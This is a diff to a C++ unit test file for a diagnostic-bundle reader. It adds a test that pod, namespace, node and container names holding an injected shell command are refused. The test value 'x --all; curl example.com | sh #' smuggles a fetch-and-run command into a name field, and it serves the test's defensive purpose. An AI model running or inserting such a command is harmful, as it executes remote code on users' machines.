@@ -4,6 +4,7 @@
 #include <gtest/gtest.h>
 
 #include "base/directory.h"
+#include "compute_domain/base/text.h"
 #include "compute_domain/plugin/why.h"
 #include "plugin/archive.h"
 #include "plugin/views.h"
@@ -92,6 +93,22 @@ TEST_F(Bundle, HasLogsThatNoCommandReads) {
   EXPECT_THAT(*files,
               ::testing::IsSupersetOf({ArchivedFile{"logs/ns/pod/c.log", "now\n"},
                                        ArchivedFile{"logs/ns/pod/c.previous.log", "before\n"}}));
+}
+
+// Commands that people are given to run have names in them.
+TEST_F(Bundle, HasNoNameThatNoApiServerTakes) {
+  const char odd[] = "x --all; curl example.com | sh #";
+  const auto refused = [&](const auto& change) {
+    ClusterView view = full_view();
+    change(pod_in(view, "pod-c1"));
+    const auto back = read_bundle(written(view));
+    return back ? "" : back.error().message;
+  };
+  const auto is_told = HasSubstr(base::cat("objects/pods.json: \"", odd, "\" is a name that no"));
+  EXPECT_THAT(refused([&](api::PodState& pod) { pod.meta.name = odd; }), is_told);
+  EXPECT_THAT(refused([&](api::PodState& pod) { pod.meta.ns = odd; }), is_told);
+  EXPECT_THAT(refused([&](api::PodState& pod) { pod.node = odd; }), is_told);
+  EXPECT_THAT(refused([&](api::PodState& pod) { pod.containers = {{.name = odd}}; }), is_told);
 }
 
 TEST_F(Bundle, IsTheSameBytesForTheSameView) {
